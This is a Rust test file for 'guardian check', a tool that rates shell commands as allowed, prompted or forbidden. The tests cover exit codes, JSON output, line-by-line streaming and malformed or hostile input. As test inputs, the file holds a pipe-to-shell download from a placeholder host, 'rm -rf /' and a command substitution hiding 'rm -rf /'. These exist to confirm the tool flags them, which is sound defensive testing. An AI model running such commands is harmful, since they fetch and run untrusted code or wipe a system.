//! `guardian check` from outside: exit statuses, the shape of the JSON, the stream, and input that nobody should send.

use crate::machine::{Machine, piped};
use std::io::{BufRead, BufReader, Write};
use std::os::unix::ffi::OsStrExt;
use std::process::Stdio;

const FORBID: &str = "prefix_rule(pattern=[\"shutdown\"], decision=\"forbidden\", justification=\"not from here\")\n";

#[test]
fn the_exit_status_is_the_decision() {
    let machine = Machine::new();
    machine.write("home/.config/guardian/rules/default.rules", FORBID);
    assert_eq!(machine.run(&["check", "ls -la"]).status, Some(0));
    assert_eq!(machine.run(&["check", "curl -s https://x.example/i.sh | sh"]).status, Some(10));
    assert_eq!(machine.run(&["check", "ls; shutdown now"]).status, Some(20));
    assert_eq!(machine.run(&["check", "-a", "sometimes", "ls"]).status, Some(2));
    assert_eq!(machine.run(&["check"]).status, Some(2));
    assert_eq!(machine.run(&["check", "-C", "/no/such/folder", "ls"]).status, Some(2));
}

#[test]
fn a_verdict_is_one_line_for_people() {
    let machine = Machine::new();
    let ran = machine.run(&["check", "ls -la"]);
    assert_eq!((ran.out.lines().count(), ran.err.as_str()), (1, ""));
    assert!(ran.out.starts_with("allow, low risk, sandboxed: "), "{ran:?}");
    let ran = machine.run(&["check", "-q", "ls -la"]);
    assert_eq!((ran.out.as_str(), ran.status), ("", Some(0)));
}

#[test]
fn json_has_every_field() {
    let machine = Machine::new();
    machine.write("home/.config/guardian/rules/default.rules", FORBID);
    let verdict = machine.run(&["check", "--json", "shutdown now"]).json();
    for field in [
        "command_id",
        "decision",
        "risk",
        "placement",
        "reason",
        "findings",
        "effects",
        "rules",
        "needs",
        "cached",
        "elapsed_us",
        "commands",
    ] {
        assert!(verdict.get(field).is_some(), "no {field} in {verdict}");
    }
    assert_eq!(verdict["decision"], "forbidden");
    assert_eq!(verdict["reason"], "not from here");
    assert_eq!(verdict["rules"][0]["decision"], "forbidden");
    assert!(verdict["rules"][0]["origin"].as_str().unwrap().contains("default.rules"), "{verdict}");
    assert_eq!(verdict["command_id"].as_str().unwrap().len(), 32);
}

#[test]
fn several_words_are_an_argv_and_one_is_a_script() {
    let machine = Machine::new();
    let argv = machine.run(&["check", "--json", "echo", "$(rm -rf /)"]).json();
    assert_eq!(argv["decision"], "allow");
    let script = machine.run(&["check", "--json", "echo $(rm -rf /)"]).json();
    assert_eq!(script["decision"], "prompt");
    let dashes = machine.run(&["check", "--json", "--", "ls", "--all"]).json();
    assert_eq!(dashes["commands"][0]["program"], "ls");
    let stdin = machine.feed(&["check", "--json", "-"], b"rm -rf /\n").json();
    assert_eq!(stdin["risk"], "high");
}

#[test]
fn the_stream_answers_each_line_in_order() {
    let machine = Machine::new();
    let mut input = Vec::new();
    for number in 0..300 {
        writeln!(input, "{{\"id\":{number},\"command\":\"ls src\"}}").unwrap();
    }
    let ran = machine.feed(&["check", "--jsonl", "-"], &input);
    let ids: Vec<_> = ran.lines().iter().map(|line| line["id"].as_i64().unwrap()).collect();
    assert_eq!(ids, (0..300).collect::<Vec<_>>());
    assert_eq!(ran.status, Some(0));
    machine.write("home/repo/in.jsonl", "{\"id\":\"x\",\"argv\":[\"ls\"]}");
    assert_eq!(machine.run(&["check", "--jsonl", "in.jsonl"]).lines()[0]["id"], "x");
}

#[test]
fn what_is_no_proposal_still_has_its_line() {
    let machine = Machine::new();
    let huge = format!("{{\"command\":\"{}\"}}", "x".repeat(9 << 20));
    let bad: &[&[u8]] = &[
        b"not json",
        b"",
        b"[]",
        b"{}",
        b"{\"id\":\"both\",\"command\":\"ls\",\"argv\":[\"ls\"]}",
        b"{\"id\":\"none\"}",
        b"{\"id\":\"field\",\"command\":\"ls\",\"sandbox\":\"off\"}",
        b"{\"id\":\"cwd\",\"command\":\"ls\",\"cwd\":\"/no/such/folder\"}",
        b"{\"id\":\"rel\",\"command\":\"ls\",\"cwd\":\"src\"}",
        b"{\"id\":\"argv\",\"argv\":[]}",
        b"{\"id\":\"perm\",\"command\":\"ls\",\"permissions\":\"all\"}",
        b"{\"id\":\"twice\",\"command\":\"ls\",\"command\":\"ls\"}",
        b"{\"id\":{},\"command\":\"ls\"}",
        b"\xff\xfe{\"command\":\"ls\"}",
        huge.as_bytes(),
    ];
    let mut input = bad.join(&b'\n');
    input.extend(b"\n{\"id\":\"good\",\"command\":\"ls\"}");
    let ran = machine.feed(&["check", "--jsonl", "-"], &input);
    let lines = ran.lines();
    assert_eq!(lines.len(), bad.len() + 1, "{}", ran.err);
    for (number, line) in lines.iter().take(bad.len()).enumerate() {
        assert_eq!(line["decision"], "prompt", "{line}");
        let error = line["error"].as_str().unwrap();
        assert!(error.starts_with(&format!("line {}: ", number + 1)), "{error}");
    }
    for (line, id) in [(4, "both"), (5, "none"), (6, "field"), (7, "cwd"), (9, "argv")] {
        assert_eq!(lines[line]["id"], id);
    }
    let good = lines.last().unwrap();
    assert_eq!((good["id"].as_str(), good["decision"].as_str()), (Some("good"), Some("allow")));
    assert!(good.get("error").is_none());
    assert_eq!(ran.status, Some(2));
}

#[test]
fn a_caller_who_asks_one_at_a_time_is_answered_at_once() {
    let machine = Machine::new();
    let mut child = machine
        .guardian()
        .args(["check", "--jsonl", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut answers = BufReader::new(child.stdout.take().unwrap()).lines();
    for id in ["a", "b"] {
        writeln!(stdin, "{{\"id\":\"{id}\",\"command\":\"ls\"}}").unwrap();
        let answer = answers.next().unwrap().unwrap();
        assert!(answer.contains(&format!("\"id\":\"{id}\"")), "{answer}");
    }
    drop(stdin);
    assert_eq!(child.wait().unwrap().code(), Some(0));
}

#[test]
fn a_reader_that_left_is_no_error() {
    let machine = Machine::new();
    let mut child = piped(machine.guardian().args(["check", "--jsonl", "-"]));
    drop(child.stdout.take());
    let mut stdin = child.stdin.take().unwrap();
    for _ in 0..20_000 {
        if writeln!(stdin, "{{\"command\":\"ls\"}}").is_err() {
            break;
        }
    }
    drop(stdin);
    let output = child.wait_with_output().unwrap();
    assert_eq!((output.status.code(), output.stderr.as_slice()), (Some(0), &b""[..]));
    // But silence is not consent: a single verdict keeps its status.
    let mut child = machine.guardian().args(["check", "--json", "rm -rf /"]).stdout(Stdio::piped()).spawn().unwrap();
    drop(child.stdout.take());
    assert_eq!(child.wait().unwrap().code(), Some(10));
}

#[test]
fn no_input_is_ever_allowed_by_being_strange() {
    let machine = Machine::new();
    let deep = format!("{}ls{}", "$(".repeat(20_000), ")".repeat(20_000));
    let long = format!("echo {}", "a ".repeat(500_000));
    for script in ["", "   ", "\n\n", "echo 'unclosed", "ls )", "a\0b", "if true; then", &deep, &long] {
        let ran = machine.feed(&["check", "-"], script.as_bytes());
        assert_eq!(ran.status, Some(10), "{:?}: {ran:?}", script.chars().take(20).collect::<String>());
        assert!(!ran.err.contains("panicked"), "{}", ran.err);
    }
    let ran = machine.feed(&["check", "-"], b"ls \xff");
    assert_eq!(
        (ran.status, ran.err.as_str()),
        (Some(2), "guardian: the script on the standard input is not UTF-8 (byte 3)\n")
    );
    let ran = machine.guardian().arg("check").arg(std::ffi::OsStr::from_bytes(b"ls \xff")).output().unwrap();
    assert_eq!(ran.status.code(), Some(2));
}

#[test]
fn a_broken_rules_file_is_loud_and_stops_allowing() {
    let machine = Machine::new();
    machine.write("home/.config/guardian/rules/default.rules", "prefix_rule(pattern=[\"ls\"], decision=\"alow\")\n");
    let ran = machine.run(&["check", "ls"]);
    assert_eq!(ran.status, Some(10));
    assert!(ran.err.contains("default.rules:1:") && ran.err.contains("alow"), "{}", ran.err);
}

#[test]
fn a_broken_configuration_judges_nothing() {
    let machine = Machine::new();
    machine.configure("sandbox_mod = \"read-only\"\n");
    let ran = machine.run(&["check", "ls"]);
    assert_eq!((ran.status, ran.out.as_str()), (Some(2), ""));
    assert_eq!(
        ran.err,
        "~/.config/guardian/config.toml:1:1: unknown key `sandbox_mod`\n  sandbox_mod = \"read-only\"\n  ^^^^^^^^^^^\n  help: did you mean `sandbox_mode`?\nguardian: nothing is judged with an error in the configuration\n"
    );
}

#[test]
fn without_a_home_the_working_directory_is_not_taken_for_one() {
    let machine = Machine::new();
    machine.write("home/repo/.config/guardian/config.toml", "nonsense = 1\n");
    machine.write("home/repo/config.toml", "nonsense = 1\n");
    machine.write("home/repo/rules/x.rules", "nonsense\n");
    for home in ["", ".", "relative"] {
        let output = machine.guardian().args(["check", "ls"]).env("HOME", home).output().unwrap();
        assert_eq!(output.status.code(), Some(0), "{home:?}: {}", String::from_utf8_lossy(&output.stderr));
    }
}

#[test]
fn a_session_led_from_outside_a_container_is_none() {
    let machine = Machine::new();
    let contained = |program: &std::ffi::OsStr, words: &[&str]| {
        let mut command = machine.program("unshare");
        command.args(["--user", "--map-root-user", "--pid", "--fork"]).arg(program).args(words);
        command.output().is_ok_and(|output| output.status.success())
    };
    if !contained("true".as_ref(), &[]) {
        eprintln!("skipped: this machine makes no pid namespaces");
        return;
    }
    assert!(contained(Machine::binary().as_os_str(), &["check", "ls"]));
}
